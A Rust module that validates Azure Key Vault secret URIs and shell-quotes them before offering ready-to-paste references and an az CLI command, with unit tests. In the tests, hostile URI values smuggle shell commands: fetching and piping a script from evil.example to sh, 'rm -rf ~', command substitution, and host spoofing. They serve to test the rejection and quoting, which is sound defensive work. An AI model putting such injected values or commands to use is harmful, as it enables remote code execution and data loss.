//! Where the secret was stored, and the ready-to-paste references to it: never the value.
//!
//! The secret URI comes from a service's answer and goes into text people paste: an App Service
//! setting and a shell command. So it is offered only when it has the shape of a secret version
//! of the vault and name that were written ([`VaultHosts::secret_uri`]: https on a vault host
//! under the cloud's Key Vault suffix, `/secrets/{name}/{version}` in Key Vault's charsets, nothing
//! else), and the command quotes it for POSIX shells all the same.

use chrono::{DateTime, Utc};

use crate::arm::ArmSecret;
use crate::destinations::VaultHosts;
use crate::keyvault::StoredSecret;

/// Which API wrote the secret.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum WritePath {
    /// Azure Resource Manager `Microsoft.KeyVault/vaults/secrets` PUT.
    Arm,
    /// The Key Vault data plane (through the configured gateway or the vault URI).
    DataPlane,
}

impl WritePath {
    /// How the UI names the path.
    pub fn label(self) -> &'static str {
        match self {
            WritePath::Arm => "Azure Resource Manager",
            WritePath::DataPlane => "the Key Vault data plane",
        }
    }
}

/// A stored secret version, as the Done step shows it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct StoredRef {
    pub vault_name: String,
    pub secret_name: String,
    /// `https://{vault}.vault.azure.net/secrets/{name}/{version}`
    pub uri_with_version: String,
    pub path: WritePath,
    pub expires: Option<DateTime<Utc>>,
    /// The URI is a secret version of `vault_name`/`secret_name` in this cloud: only then are the
    /// references offered.
    pub uri_checked: bool,
}

impl StoredRef {
    /// From the ARM PUT (or GET) answer; `None` when it names no version.
    pub fn from_arm(vault_name: &str, secret: &ArmSecret, hosts: &VaultHosts) -> Option<Self> {
        let uri = secret.secret_uri_with_version.clone()?;
        Some(Self {
            uri_checked: names(hosts, &uri, vault_name, &secret.name),
            vault_name: vault_name.to_string(),
            secret_name: secret.name.clone(),
            uri_with_version: uri,
            path: WritePath::Arm,
            expires: secret.expires,
        })
    }

    /// From the data plane's set-secret answer.
    pub fn from_data_plane(
        vault_name: &str,
        secret_name: &str,
        s: &StoredSecret,
        hosts: &VaultHosts,
    ) -> Option<Self> {
        s.version()?;
        Some(Self {
            uri_checked: names(hosts, &s.id, vault_name, secret_name),
            vault_name: vault_name.to_string(),
            secret_name: secret_name.to_string(),
            uri_with_version: s.id.clone(),
            path: WritePath::DataPlane,
            expires: s.expires,
        })
    }

    /// The version: the last path segment of the URI.
    pub fn version(&self) -> &str {
        self.uri_with_version
            .trim_end_matches('/')
            .rsplit('/')
            .next()
            .unwrap_or_default()
    }

    /// The URI, when it is offered ([`StoredRef::uri_checked`]).
    pub fn checked_uri(&self) -> Option<&str> {
        self.uri_checked.then_some(self.uri_with_version.as_str())
    }

    /// The App Service / Functions Key Vault reference, when the URI is offered.
    pub fn app_service_reference(&self) -> Option<String> {
        self.checked_uri()
            .map(|uri| format!("@Microsoft.KeyVault(SecretUri={uri})"))
    }

    /// Reads the value where the user is signed in to the Azure CLI, when the URI is offered;
    /// the URI single-quoted for POSIX shells.
    pub fn az_command(&self) -> Option<String> {
        self.checked_uri().map(|uri| {
            format!(
                "az keyvault secret show --id {} --query value -o tsv",
                shell_quote(uri)
            )
        })
    }
}

/// True when `uri` is a secret version's URI of `vault`'s `name` in this cloud.
fn names(hosts: &VaultHosts, uri: &str, vault: &str, name: &str) -> bool {
    hosts
        .secret_uri(uri)
        .is_some_and(|u| u.vault.eq_ignore_ascii_case(vault) && u.name.eq_ignore_ascii_case(name))
}

/// `text` as one word for a POSIX shell: in single quotes, each `'` written `'\''`. Nothing is
/// special inside single quotes (POSIX.1 Shell Command Language, 2.2.2), so no value of `text`
/// can end the word or run anything.
pub fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// `AZURE_CLIENT_ID=…` and `AZURE_TENANT_ID=…`, the identifiers a consumer configures beside
/// the secret reference.
pub fn env_lines(client_id: &str, tenant_id: &str) -> String {
    format!("AZURE_CLIENT_ID={client_id}\nAZURE_TENANT_ID={tenant_id}")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn arm(uri: &str) -> ArmSecret {
        let body = serde_json::json!({
            "id": "/subscriptions/s/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/kv-contoso-dev/secrets/payroll-api-client-secret",
            "name": "payroll-api-client-secret",
            "properties": { "secretUriWithVersion": uri }
        });
        crate::arm::parse_secret(&crate::net::HttpResponse::new(200, body.to_string()))
            .expect("an ARM secret")
    }

    fn public() -> VaultHosts {
        VaultHosts::new(".vault.azure.net", None)
    }

    const GOOD: &str =
        "https://kv-contoso-dev.vault.azure.net/secrets/payroll-api-client-secret/4387e9f3d6e14c459867679a90fd0f79";

    #[test]
    fn a_secret_uri_of_the_vault_and_name_written_is_offered_and_quoted() {
        let s = StoredRef::from_arm("kv-contoso-dev", &arm(GOOD), &public()).unwrap();
        assert!(s.uri_checked);
        assert_eq!(s.checked_uri(), Some(GOOD));
        assert_eq!(
            s.az_command().as_deref(),
            Some(format!("az keyvault secret show --id '{GOOD}' --query value -o tsv").as_str())
        );
        assert_eq!(
            s.app_service_reference(),
            Some(format!("@Microsoft.KeyVault(SecretUri={GOOD})"))
        );
        // The sandbox's vault URIs, on its own origin only.
        let sandbox = VaultHosts::new(".vault.azure.net", Some("http://127.0.0.1:8400"));
        let local =
            "http://127.0.0.1:8400/kv/kv-contoso-dev/secrets/payroll-api-client-secret/7f3b";
        let s = StoredRef::from_arm("kv-contoso-dev", &arm(local), &sandbox).unwrap();
        assert_eq!(
            s.az_command().as_deref(),
            Some(format!("az keyvault secret show --id '{local}' --query value -o tsv").as_str())
        );
        assert!(
            !StoredRef::from_arm("kv-contoso-dev", &arm(local), &public())
                .unwrap()
                .uri_checked
        );
    }

    #[test]
    fn hostile_or_foreign_secret_uris_get_no_reference_and_no_command() {
        let v = "4387e9f3d6e14c459867679a90fd0f79";
        let base = "https://kv-contoso-dev.vault.azure.net/secrets/payroll-api-client-secret";
        for uri in [
            format!("{base}/{v}'; curl https://evil.example/x | sh; echo '"),
            format!("{base}/{v}$(curl evil.example)"),
            format!("{base}/{v}`id`"),
            format!("{base}/{v} --query value -o tsv; rm -rf ~ #"),
            format!("{base}/{v}\nrm -rf ~"),
            format!("{base}/{v})"),
            format!("{base}/{v}?api-version=7.5"),
            format!("{base}/{v}#x"),
            format!("{base}/{v}/extra"),
            format!("{base}/"),
            base.to_string(),
            format!("{base}/{v}&whoami"),
            format!("{base}/{v};whoami"),
            format!("{base}/v%27"),
            format!("https://evil.example/secrets/payroll-api-client-secret/{v}"),
            format!("https://evil.example\\kv-contoso-dev.vault.azure.net/secrets/payroll-api-client-secret/{v}"),
            format!("https://kv-contoso-dev.vault.azure.net@evil.example/secrets/payroll-api-client-secret/{v}"),
            format!("http://kv-contoso-dev.vault.azure.net/secrets/payroll-api-client-secret/{v}"),
            format!("https://kv-contoso-dev.vault.azure.net:8443/secrets/payroll-api-client-secret/{v}"),
            format!("https://kv-contoso-prod.vault.azure.net/secrets/payroll-api-client-secret/{v}"),
            format!("https://kv-contoso-dev.vault.azure.net/secrets/another-secret/{v}"),
            format!("https://kv-contoso-dev.vault.azure.net/keys/payroll-api-client-secret/{v}"),
            format!("https://kv-contoso-dev.vault.azure.net/secrets/payroll_api/{v}"),
            format!("https://kv-contoso-dev.vault.azure.net/secrets/../secrets/payroll-api-client-secret/{v}"),
            format!("file:///secrets/payroll-api-client-secret/{v}"),
            String::new(),
        ] {
            let s = StoredRef::from_arm("kv-contoso-dev", &arm(&uri), &public()).unwrap();
            assert!(!s.uri_checked, "{uri:?}");
            assert_eq!(s.checked_uri(), None, "{uri:?}");
            assert_eq!(s.az_command(), None, "{uri:?}");
            assert_eq!(s.app_service_reference(), None, "{uri:?}");
        }
        // Upper case and the default port are the same vault (the browser and `az` agree).
        for uri in [
            format!("https://KV-CONTOSO-DEV.vault.azure.net/secrets/payroll-api-client-secret/{v}"),
            format!(
                "https://kv-contoso-dev.vault.azure.net:443/secrets/payroll-api-client-secret/{v}"
            ),
        ] {
            let s = StoredRef::from_arm("kv-contoso-dev", &arm(&uri), &public()).unwrap();
            assert!(s.uri_checked, "{uri}");
        }
    }

    #[test]
    fn shell_quoting_keeps_any_text_one_word() {
        assert_eq!(shell_quote("a b"), "'a b'");
        assert_eq!(shell_quote("it's"), "'it'\\''s'");
        assert_eq!(shell_quote(""), "''");
        // What a POSIX shell makes of it: exactly the text, as one argument, nothing run.
        let pwned = std::env::temp_dir().join(format!("sw-pwned-{}", std::process::id()));
        let p = pwned.display();
        for text in [
            "plain".to_string(),
            "it's".to_string(),
            format!("'; touch {p}; echo '"),
            format!("$(touch {p})"),
            format!("`touch {p}`"),
            "a\nb\\c \"d\" $HOME *".to_string(),
            "''''".to_string(),
        ] {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf '%s|' {}", shell_quote(&text)))
                .output()
                .expect("sh runs");
            assert_eq!(String::from_utf8_lossy(&out.stdout), format!("{text}|"));
        }
        assert!(!pwned.exists(), "the shell ran a command from the text");
    }
}
